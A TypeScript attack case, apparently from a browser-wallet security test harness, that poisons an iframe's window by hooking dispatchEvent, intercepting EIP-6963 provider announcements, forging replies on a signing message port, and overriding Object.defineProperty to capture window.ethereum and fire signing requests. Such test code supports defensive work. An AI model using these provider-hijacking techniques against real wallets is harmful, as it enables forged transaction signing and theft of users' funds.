import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'frames',
  how: "Poisons a fresh frame's window, then loads a page of its own into it, which may keep that window.",
  script: `
    const poison = (view) => {
      const use = (value) => { try { value?.detail?.provider?.request(attack.sign) } catch {} }
      const { EventTarget } = view
      const dispatch = EventTarget.prototype.dispatchEvent
      EventTarget.prototype.dispatchEvent = view.dispatchEvent = function (event) { use(event); return dispatch.call(this ?? view, event) }
      view.addEventListener('eip6963:announceProvider', use, true)
      view.addEventListener('plainsign:port', (event) => {
        event.stopImmediatePropagation()
        const port = event.ports[0]
        port.onmessage = ({ data }) => port.postMessage({ type: 'request.forward', id: data.id, digest: '' })
        event.preventDefault()
      }, true)
      const { define, defineProperty } = { define: view.Object.defineProperty, defineProperty: view.Object.defineProperty }
      view.Object.defineProperty = function (target, key, descriptor) {
        if (key === 'ethereum') use({ detail: { provider: descriptor.value } })
        return define.call(this, target, key, descriptor)
      }
      let kept
      try { defineProperty(view, 'ethereum', { configurable: false, get: () => kept, set: (value) => { kept = value; use({ detail: { provider: value } }) } }) } catch {}
    }
    for (const delay of [0, 0, 30]) {
      const frame = attack.frame()
      poison(frame.contentWindow)
      await attack.sleep(delay)
      frame.src = attack.frameUrl
      frame.addEventListener('load', () => { try { frame.contentWindow.ethereum.request(attack.sign) } catch {} })
    }
    const sourced = attack.frame({ src: attack.frameUrl })
    poison(sourced.contentWindow)
    await attack.sleep(900)
  `,
  frame: `
    ethereum.request(attack.sign)
    dispatchEvent(new Event('eip6963:requestProvider'))
  `,
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
